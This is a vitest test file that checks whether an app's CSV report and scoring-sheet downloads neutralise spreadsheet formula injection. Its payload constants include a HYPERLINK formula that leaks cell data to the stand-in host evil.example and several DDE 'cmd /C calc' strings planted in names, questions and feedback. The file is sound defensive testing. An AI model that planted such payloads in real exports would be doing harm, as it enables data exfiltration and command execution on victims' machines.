// Every CSV Tandem serves, over real HTTP, with formulas planted in the text people type: names, organisations,
// professions, questions, notes, feedback, rubric criteria and cohort names. No cell may reach a spreadsheet as a
// formula (OWASP's CSV injection advice: a leading ' and the cell quoted); numbers stay numbers, negative ones too.
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { COHORT_REPORT_TABLE_KEYS, programmeTables } from "~/domain/report";
import { addMembership } from "~/models/programme.server";
import { paths } from "~/utils/paths";
import { makeCohort, makeWorld, type World } from "../setup/factories";
import { fillReportCohort } from "../setup/report";
import { get, sessionCookieFor, startServer, type TestServer } from "../setup/server";

const POISON = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const COHORT_NAME = "-2+3+cmd|' /C calc'!A0";
const PROFESSION = "@SUM(1+1)*cmd|' /C calc'!A0";
const QUESTION = "+1+cmd|' /C calc'!A0 confidence";
const CRITERION = "=1+1 pitch";
const NOTE = "-3";
const FEEDBACK = "\t=cmd|' /C calc'!A0";
/** A cell a spreadsheet would read as a formula: OWASP's list and its full-width forms, after any spaces. */
const FORMULA = /^(?:[\t\r]|\s*[=+\-@＝＋－＠])/u;

let server: TestServer;
let world: World;
let cohortId: number;

beforeAll(async () => {
  server = await startServer(async (db) => {
    world = await makeWorld(db);
    const cohort = await makeCohort(db, world.programme.id, { name: COHORT_NAME, startDate: "2027-01-04" });
    cohortId = cohort.id;
    await addMembership(db, cohortId, world.people.coordinator.id, "coordinator");
    await addMembership(db, cohortId, world.people.sponsor.id, "sponsor");
    const { participants, teams, eventId } = await fillReportCohort(db, cohortId, POISON);
    await db
      .updateTable("people")
      .set({ profession: PROFESSION })
      .where("id", "=", participants[0]!.id)
      .execute();
    const question = await db
      .selectFrom("skills_questions")
      .where("cohort_id", "=", cohortId)
      .orderBy("position")
      .select("id")
      .executeTakeFirstOrThrow();
    await db.updateTable("skills_questions").set({ text: QUESTION }).where("id", "=", question.id).execute();
    // Everyone felt less sure of this area by the end: its change is -4, a negative number.
    for (const [phase, confidence] of [
      ["start", 5],
      ["end", 1],
    ] as const)
      await db
        .updateTable("skills_answers")
        .set({ confidence })
        .where("question_id", "=", question.id)
        .where("phase", "=", phase)
        .execute();
    await db
      .updateTable("team_outcomes")
      .set({ note: NOTE })
      .where("team_id", "=", teams[0]!.id)
      .where("follow_up", "=", "3-months")
      .execute();
    await db
      .updateTable("rubric_criteria")
      .set({ name: CRITERION })
      .where("event_id", "=", eventId)
      .where("position", "=", 1)
      .execute();
    await db
      .updateTable("scoring_sheets")
      .set({ could_be_better: FEEDBACK })
      .where("event_id", "=", eventId)
      .execute();
  });
});
afterAll(async () => {
  await server?.stop();
});

const as = (who: keyof World["people"]) => sessionCookieFor(server.db, world.people[who].id);

/** A CSV download: its raw text (byte order mark dropped) and its cells as a spreadsheet reads them. */
async function download(path: string, cookie: string) {
  const response = await get(`${server.url}${path}`, cookie);
  const bytes = new Uint8Array(await response.arrayBuffer());
  const raw = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes).replace(/^\uFEFF/, "");
  return {
    status: response.status,
    type: response.headers.get("content-type"),
    raw,
    rows: response.status === 200 ? (parse(raw) as string[][]) : [],
  };
}

/** Each cell that would run as a formula; numbers written as numbers (unquoted in the file) are not text. */
function formulas(csv: { raw: string; rows: string[][] }): string[] {
  const unquotedNumbers = new Set(csv.raw.split(/[,\n]/).filter((field) => /^-?\d+(\.\d+)?$/.test(field)));
  return csv.rows.flat().filter((cell) => FORMULA.test(cell) && !unquotedNumbers.has(cell));
}

/** Each neutralised cell (a ' before a formula) that the file does not hold inside double quotes. */
function unquoted(csv: { raw: string; rows: string[][] }): string[] {
  return csv.rows
    .flat()
    .filter((cell) => cell.startsWith("'") && FORMULA.test(cell.slice(1)))
    .filter((cell) => !csv.raw.includes(`"${cell.replaceAll('"', '""')}"`));
}

function expectSafe(csv: Awaited<ReturnType<typeof download>>, label: string) {
  expect(csv.status, label).toBe(200);
  expect(csv.type, label).toContain("text/csv");
  expect(formulas(csv), label).toEqual([]);
  expect(unquoted(csv), label).toEqual([]);
}

describe("CSV downloads with formulas in what people typed", () => {
  it("neutralises every text cell of every cohort report table, and keeps a negative change a number", async () => {
    const cookie = await as("coordinator");
    const planted: Record<string, string> = {
      organisation: `'${POISON} Kestrel Ltd`,
      department: `'${POISON} Revenue Department`,
      profession: `'${PROFESSION}`,
      "attendance-by-visit": `'${POISON} Kestrel Ltd`,
      "attendance-by-person": `'${POISON} Participant 01`,
      "skills-change": `'${QUESTION}`,
      outcomes: `'${NOTE}`,
    };
    for (const key of COHORT_REPORT_TABLE_KEYS) {
      const csv = await download(paths.cohort(cohortId).reportCsv(key), cookie);
      expectSafe(csv, key);
      if (planted[key]) expect(csv.rows.flat(), key).toContain(planted[key]);
    }
    const skills = await download(paths.cohort(cohortId).reportCsv("skills-change"), cookie);
    expect(skills.raw).toContain(`"'${QUESTION}",`);
    const row = skills.rows.find((r) => r[0] === `'${QUESTION}`)!;
    expect(row[4]).toBe("-4");
    expect(skills.raw).toMatch(/,-4,/);
  });

  it("neutralises the tables a sponsor downloads", async () => {
    const cookie = await as("sponsor");
    let downloaded = 0;
    for (const key of COHORT_REPORT_TABLE_KEYS) {
      const csv = await download(paths.cohort(cohortId).reportCsv(key), cookie);
      if (csv.status === 403) continue;
      expectSafe(csv, key);
      downloaded += 1;
    }
    expect(downloaded).toBeGreaterThanOrEqual(8);
    const organisations = await download(paths.cohort(cohortId).reportCsv("organisation"), cookie);
    expect(organisations.rows.flat()).toContain(`'${POISON} Kestrel Ltd`);
  });

  it("neutralises the cohort's name in every programme table", async () => {
    const cookie = await as("coordinator");
    for (const { key } of programmeTables([])) {
      const csv = await download(paths.programme(world.programme.id).reportCsv(key), cookie);
      expectSafe(csv, key);
      expect(
        csv.rows.map((r) => r[0]),
        key,
      ).toContain(`'${COHORT_NAME}`);
    }
  });

  it("neutralises names, organisations, teams, rubric criteria and feedback in the scoring sheets", async () => {
    const csv = await download(paths.cohort(cohortId).pitchDay.sheetsCsv(), await as("coordinator"));
    expectSafe(csv, "sheets");
    const [head, ...rows] = csv.rows;
    expect(head).toContain(`'${CRITERION} (1-5, weight 20)`);
    const cells = rows.flat();
    for (const planted of [
      `'${POISON} Leader 1`,
      `'${POISON} Solent Ltd`,
      `'${POISON} team 1`,
      `'${POISON} Leader 1 liked it`,
      `'${FEEDBACK}`,
    ])
      expect(cells).toContain(planted);
  });
});
